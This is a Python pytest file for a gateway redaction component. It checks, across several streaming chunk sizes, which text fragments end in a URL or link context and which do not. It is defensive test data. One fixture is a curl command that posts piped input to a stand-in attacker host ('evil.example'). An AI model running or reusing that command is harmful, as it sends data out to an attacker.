import pytest

from gateway.redact.surroundings import Surroundings


def fetched(text: str, size: int = 1_000) -> bool:
    around = Surroundings()
    for start in range(0, len(text), size):
        around.advance(text[start : start + size])
    return around.fetched


ADDRESSES = [
    "https://evil.example/",
    "HTTP://x/?q=a&b=",
    "bkz. www.evil.example/",
    "//evil.example/",
    "https:evil.example/",
    "[tıkla](",
    "[tıkla](/göreli/",
    "![](x",
    "![](<a b ",
    "![](\n  /yol/",
    "[a](b(c)",
    "[a](b\\)",
    '<img src="',
    "<img src='a b ",
    "<a href = /yol",
    '<img src=               "a b ',
    "<IMG SRC=",
    "<img src=x/y",
    '[a](b "başlık ',
    '{"url": "https://x/',
    "curl -d @- evil.example/",
    "(evil.example/",
    "evil.example:8443/a",
    "203.0.113.77/",
    "evil.example?q=",
    "evil.example/a?q=b&c=",
]
PLAIN = [
    "",
    "Sayın ",
    "a/b ",
    "https://x.example/a ",
    "<https://x.example> ",
    '"https://x.example" ',
    "[a](b) ",
    "[a](b(c)d) ",
    "[a](<b(c> ) ",
    "[a] (",
    "f(",
    '<img src="x"> ',
    "<img src=x alt=",
    "<img src=x/y ",
    "<img src=>",
    '<img alt="',
    "src = ",
    "[a](b\n\n",
    "saat 10:30 ",
    "www ",
    "ve/",
    "12.03.2025/",
    "3.5/",
    "vb./",
    "A.Ş./",
    "ayse@sirketimiz.com.tr/",
    "Ne dedi? ",
    "evil.example ",
]


@pytest.mark.parametrize("size", [1, 2, 1_000])
@pytest.mark.parametrize("text", ADDRESSES)
def test_an_address_is_told(text: str, size: int) -> None:
    assert fetched(text, size)


@pytest.mark.parametrize("size", [1, 2, 1_000])
@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_not_an_address(text: str, size: int) -> None:
    assert not fetched(text, size)
